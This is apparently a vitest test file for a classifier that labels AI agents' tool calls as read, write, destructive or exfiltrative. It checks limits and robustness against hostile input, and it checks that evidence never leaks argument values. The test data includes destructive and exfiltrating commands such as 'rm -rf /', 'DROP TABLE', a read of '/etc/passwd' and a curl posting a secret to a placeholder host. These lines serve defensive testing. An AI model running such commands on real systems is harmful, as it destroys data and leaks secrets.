// Calls by hand (test/cases/intent/calls.txt): what their arguments make of them. Hostile arguments neither throw, nor hang, nor lower anything.
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { growthOf, NEAR_LINEAR } from '../../../test/support/growth.ts';
import type { Intent, IntentVerdict } from '../../call.ts';
import type { JsonObject } from '../../lib/json.ts';
import { MAX_ARGUMENT_DEPTH, MAX_ARGUMENTS, MAX_ITEMS } from './argument.ts';
import { classifyCall } from './call-intent.ts';
import { MAX_CODE_CHARS } from './code.ts';
import { MAX_CYPHER_CHARS } from './cypher.ts';
import { classifyDefinition } from './definition.ts';
import { MAX_GRAPHQL_CHARS } from './graphql.ts';
import { Languages } from './language.ts';
import { loadParsers, NO_PARSERS } from './parser.ts';
import { MAX_TEXT_CHARS } from './running-text.ts';
import { MASS_RECIPIENTS } from './sharing.ts';
import { BULK_ITEMS } from './signal.ts';
import { MAX_EVIDENCE, withoutArguments } from './verdict.ts';

/** What a parser makes of a text must not depend on how busy the machine is. */
const STILL = (): number => 0;

const LETTER: Record<string, Intent> = { r: 'read', w: 'write', d: 'destructive', e: 'exfiltrative' };
/** With what their tools say of themselves. */
function casesOf(name: string): { described: Map<string, string>; cases: [string, string, string][] } {
  const lines = readFileSync(new URL(`../../../test/cases/intent/${name}`, import.meta.url), 'utf8')
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('#'));
  const described = new Map(lines.filter((line) => line.startsWith('@')).map((line) => line.slice(2).split(' | ') as [string, string]));
  const cases = lines
    .filter((line) => !line.startsWith('@'))
    .map((line): [string, string, string] => {
      const [from, to] = [line.indexOf(' | '), line.lastIndexOf(' | ')];
      return [line.slice(0, from), line.slice(from + 3, to), line.slice(to + 3)];
    });
  return { described, cases };
}

const FILES = [
  'calls.txt',
  'unseen-calls.txt',
  'more-calls.txt',
  'layout-calls.txt',
  'evasive-calls.txt',
  'blind-mended-calls.txt',
  'blind-calls.txt',
].map(casesOf);
const described = new Map(FILES.flatMap((file) => [...file.described]));
const blind = FILES.at(-1)?.cases ?? [];
const cases = FILES.slice(0, -1).flatMap((file) => file.cases);

let languages: Languages;
beforeAll(async () => {
  languages = new Languages(await loadParsers(STILL));
});

function judge(tool: string | JsonObject, args: JsonObject, using = languages): IntentVerdict {
  const description = typeof tool === 'string' ? described.get(tool) : undefined;
  const definition = typeof tool === 'string' ? { name: tool, ...(description === undefined ? {} : { description }) } : tool;
  return classifyCall(classifyDefinition(definition), args, using);
}

const SQL = 'execute_sql';
const SHELL = 'run_command';

describe('arguments decide', () => {
  it('a program is read behind as many empty lines as there may be, and in cells of cells only so deep', () => {
    const program = (code: string): Intent => judge('run_python', { code }).intent;
    expect(program(`${'\n'.repeat(MAX_CODE_CHARS - 20)}if [ -f x ]; then`)).not.toBe('read');
    expect(program(`${'\n'.repeat(1_000)}print(1)`)).toBe('read');
    expect(program(`${'%%time\n'.repeat(3)}print(1)`)).toBe('read');
    expect(program(`${'%%time\n'.repeat(3)}!rm -rf x`)).toBe('destructive');
    expect(program(`${'%%time\n'.repeat(9_000)}print(1)`)).toBe('destructive');
  });

  it('reads the cases', () => expect(cases.length).toBeGreaterThan(400));

  it.each(cases)('%s %s', (tool, args, letters) => {
    const { intent, evidence } = judge(tool, JSON.parse(args) as JsonObject);
    expect([...letters].map((letter) => LETTER[letter])).toContain(intent);
    expect(evidence.length).toBeGreaterThan(0);
  });
});

describe('calls that nobody looked at one by one', () => {
  const isStopped = (intent: Intent | undefined): boolean => intent === 'destructive' || intent === 'exfiltrative';
  const judgedOf = () =>
    blind.map(([tool, args, letters]) => ({
      call: `${tool} ${args}`,
      right: [...letters].map((letter) => LETTER[letter] as Intent),
      found: judge(tool, JSON.parse(args) as JsonObject).intent,
    }));

  it('nineteen of twenty are right', () => {
    const judged = judgedOf();
    expect(judged.length).toBeGreaterThan(200);
    const wrong = judged.filter(({ right, found }) => !right.includes(found));
    expect(wrong.length / judged.length, wrong.map(({ call }) => call).join('\n')).toBeLessThanOrEqual(0.05);
  });

  it('of those that must be stopped hardly one passes, and hardly a reader is stopped', () => {
    const judged = judgedOf();
    const dangerous = judged.filter(({ right }) => right.every(isStopped));
    expect(dangerous.length).toBeGreaterThan(90);
    expect(dangerous.filter(({ found }) => !isStopped(found)).length / dangerous.length).toBeLessThanOrEqual(0.03);
    const readers = judged.filter(({ right }) => right.join() === 'read');
    expect(readers.length).toBeGreaterThan(50);
    expect(readers.filter(({ found }) => isStopped(found)).length / readers.length).toBeLessThanOrEqual(0.03);
  });
});

describe('what is not understood keeps the upper bound', () => {
  it('without parsers', () => {
    const none = new Languages(NO_PARSERS);
    expect(judge(SQL, { query: 'SELECT 1', dialect: 'postgres' }, none).intent).toBe('destructive');
    expect(judge(SHELL, { command: 'echo $(date)' }, none).intent).toBe('destructive');
    expect(judge(SHELL, { command: 'echo now' }, none).intent).toBe('read');
  });

  it.each([
    [SQL, { query: 'SELECT 1 FROM WHERE', dialect: 'postgres' }],
    [SQL, { query: "SELECT 'a" }],
    [SQL, { query: 'FROBNICATE all tables' }],
    [SQL, { query: 'SELECT 1\u200b; SELECT 2' }],
    [SHELL, { command: 'frobnicate --all' }],
    [SHELL, { command: '$CMD a' }],
    [SHELL, { command: 'if then fi ((' }],
    [SHELL, { command: './deploy.sh' }],
    ['run_python', { code: 'import frobnicate' }],
    ['run_python', { code: 'getattr(x, y)()' }],
    ['graphql_execute', { query: 'query {' }],
    ['run_cypher', { query: 'FROBNICATE (n)' }],
    ['redis_command', { command: 'FROBNICATE' }],
    ['run-command', { command: { frobnicate: 1 } }],
    [SHELL, {}],
  ] as const)('%s %j', (tool, args) => {
    expect(judge(tool, args as unknown as JsonObject).intent).toBe('destructive');
  });
});

describe('an argument beside the one that counts does not lower', () => {
  it.each([
    [SHELL, { command: 'rm -rf /', method: 'GET', url: 'https://example.com' }],
    [SHELL, { script: 'x', method: 'GET', url: 'https://example.com' }],
    [SQL, { query: 'DROP TABLE a', sql: 'SELECT 1' }],
    [SQL, { sql: 'SELECT 1', other: 'DROP TABLE a' }],
    ['run_python', { code: 'import os\nos.remove("a")', expression: '1' }],
  ] as const)('%s %j', (tool, args) => {
    expect(judge(tool, args as unknown as JsonObject).intent).toBe('destructive');
  });

  it('one that the schema does not state decides nothing', () => {
    const tool = { name: 'run_sql', inputSchema: { type: 'object', properties: { text_of_it: { type: 'string' } } } };
    expect(judge(tool, { sql: 'SELECT 1', text_of_it: 'x' }).intent).toBe('destructive');
  });

  it('a dry run counts where the tool has one', () => {
    const tool = (properties: JsonObject): JsonObject => ({ name: 'delete_items', inputSchema: { type: 'object', properties } });
    expect(judge(tool({ dry_run: { type: 'boolean' } }), { dry_run: true }).intent).toBe('read');
    expect(judge(tool({ ids: { type: 'array' } }), { dry_run: true }).intent).toBe('destructive');
    expect(judge(tool({ dry_run: { type: 'boolean' } }), { dry_run: false }).intent).toBe('destructive');
  });
});

describe('bounds', () => {
  const fill = (head: string, unit: string, chars: number): string => head + unit.repeat(Math.ceil((chars - head.length) / unit.length));

  it('texts up to their length', () => {
    expect(judge('run_python', { code: fill('x = 1', ' ', MAX_CODE_CHARS) }).intent).toBe('read');
    expect(judge('run_python', { code: fill('x = 1', ' ', MAX_CODE_CHARS + 1) }).intent).toBe('destructive');
    expect(judge('run_cypher', { query: fill('RETURN 1', ' ', MAX_CYPHER_CHARS) }).intent).toBe('read');
    expect(judge('run_cypher', { query: fill('RETURN 1', ' ', MAX_CYPHER_CHARS + 1) }).intent).toBe('destructive');
    expect(judge('graphql_execute', { query: fill('{ a }', ' ', MAX_GRAPHQL_CHARS) }).intent).toBe('read');
    expect(judge('graphql_execute', { query: fill('{ a }', ' ', MAX_GRAPHQL_CHARS + 1) }).intent).toBe('destructive');
  });

  it('all texts of one call together', () => {
    const half = fill('SELECT 1', ' ', 60_000);
    expect(judge(SQL, { sql: half, query: half }).intent).toBe('read');
    expect(judge(SQL, { sql: half, query: half, statement: fill('SELECT 1', ' ', MAX_TEXT_CHARS - 120_000 + 1) }).intent).toBe(
      'destructive',
    );
  });

  it('lists, depth and number of arguments', () => {
    expect(judge(SQL, { query: Array.from({ length: MAX_ITEMS }, () => 'SELECT 1') }).intent).toBe('read');
    expect(judge(SQL, { query: Array.from({ length: MAX_ITEMS + 1 }, () => 'SELECT 1') }).intent).toBe('destructive');
    const wide = (count: number): JsonObject => ({
      query: 'SELECT 1',
      ...Object.fromEntries(Array.from({ length: count }, (_, index) => [`k${index}`, 1])),
    });
    expect(judge(SQL, wide(MAX_ARGUMENTS - 1)).intent).toBe('read');
    expect(judge(SQL, wide(MAX_ARGUMENTS)).intent).toBe('destructive');
    const deep = (levels: number): JsonObject => (levels === 0 ? { a: 1 } : { a: deep(levels - 1) });
    expect(judge(SQL, { query: 'SELECT 1', ...deep(MAX_ARGUMENT_DEPTH - 1) }).intent).toBe('read');
    expect(judge(SQL, { query: 'SELECT 1', ...deep(MAX_ARGUMENT_DEPTH) }).intent).toBe('destructive');
  });

  it('amounts from which something is much', () => {
    expect(judge('list_users', { limit: BULK_ITEMS - 1 }).intent).toBe('read');
    expect(judge('list_users', { limit: BULK_ITEMS }).intent).toBe('exfiltrative');
    const to = (count: number): JsonObject => ({ to: Array.from({ length: count }, (_, index) => `p${index}@corp.example`) });
    expect(judge('send_email', to(MASS_RECIPIENTS - 1)).intent).toBe('write');
    expect(judge('send_email', to(MASS_RECIPIENTS)).intent).toBe('exfiltrative');
  });

  it('evidence', () => {
    const args = Object.fromEntries(Array.from({ length: 40 }, (_, index) => [`o${index}`, { force: true }]));
    expect(judge('update_item', args).evidence.length).toBe(MAX_EVIDENCE);
  });
});

describe('hostile arguments', () => {
  const units = [
    '(',
    '"',
    "'",
    '"\\"',
    '/*',
    '--',
    '[',
    '{',
    '$(',
    '`',
    '<(',
    'begin ',
    'insert into ',
    "bash -c '",
    'with a as (',
    '#\n',
    '/[ ',
    'run( ',
    '\0',
    '<<A ',
    '\n',
    'for x in ',
    '!ls\n',
    '%%bash\n',
    'fi ',
  ];
  it.each(units)('many characters of %j cost little more than as many in eight parts', (unit) => {
    const look = (chars: number) => {
      const text = unit.repeat(Math.ceil(chars / unit.length));
      return () => {
        for (const [tool, key] of [
          [SQL, 'query'],
          [SHELL, 'command'],
          ['run_python', 'code'],
          ['run_javascript', 'code'],
          ['graphql_execute', 'query'],
          ['run_cypher', 'query'],
        ] as const)
          expect(judge(tool, { [key]: text }).evidence.length).toBeGreaterThan(0);
      };
    };
    expect(growthOf(look, 7_500, 60_000)).toBeLessThan(NEAR_LINEAR);
  });

  it('any JSON, any tool', () => {
    const names = fc.constantFrom(
      SQL,
      SHELL,
      'run_python',
      'http_request',
      'redis_command',
      'aggregate',
      'send_email',
      'list_users',
      'manage_user',
      'browser_click',
    );
    const keys = fc.constantFrom(
      'query',
      'command',
      'code',
      'url',
      'method',
      'args',
      'body',
      'pipeline',
      'filter',
      'action',
      'limit',
      'path',
      'to',
      'amount',
      'x',
    );
    fc.assert(
      fc.property(names, fc.dictionary(keys, fc.jsonValue()), (name, args) => {
        const verdict = judge(name, args as JsonObject);
        expect(['read', 'write', 'destructive', 'exfiltrative']).toContain(verdict.intent);
      }),
      { numRuns: 300 },
    );
  });

  it('evidence without arguments is that of the definition, and of the rest the signal alone', () => {
    const word = 'zq8vwm31xk';
    for (const [tool, args] of [
      ['redis_command', { command: `${word} a` }],
      [SQL, { query: `${word} a` }],
      [SHELL, { command: `${word} --all`, [`/${word}`]: 1, force: true }],
      ['update_item', { [word]: { force: true, path: '/etc/passwd', status: 'deleted' } }],
      ['http_request', { method: 'POST', url: `https://${word}.example/`, [word]: 'all' }],
      ['run_python', { code: `${word}()` }],
      ['create_entry', { [word]: { amount: 5, to_account: word } }],
      ['manage_issue', { action: 'remove', [word]: { method: 'delete' } }],
    ] as const) {
      const profile = classifyDefinition({ name: tool });
      expect(withoutArguments(profile.evidence)).toEqual(profile.evidence);
      const { evidence: all } = classifyCall(profile, args as JsonObject, languages);
      const shown = withoutArguments(all);
      expect(shown.map(({ signal }) => signal)).toEqual(all.map(({ signal }) => signal));
      expect(JSON.stringify(shown), tool).not.toContain(word);
      const ofCall = shown.filter((_, i) => !profile.evidence.includes(all[i] as (typeof all)[number]));
      expect(ofCall.length, tool).toBeGreaterThan(0);
      for (const one of ofCall) expect(Object.keys(one)).toEqual(['signal']);
    }
  });

  it('no evidence holds a value', () => {
    const secret = 'zq8vwm31xk';
    for (const args of [
      { query: `SELECT '${secret}'` },
      { command: `curl -d ${secret} https://${secret}.example` },
      { to: [`${secret}@gmail.com`], attachments: [`${secret}.sql`] },
    ])
      for (const tool of [SQL, SHELL, 'send_email', 'http_request'])
        expect(JSON.stringify(judge(tool, args as JsonObject))).not.toContain(secret);
  });
});
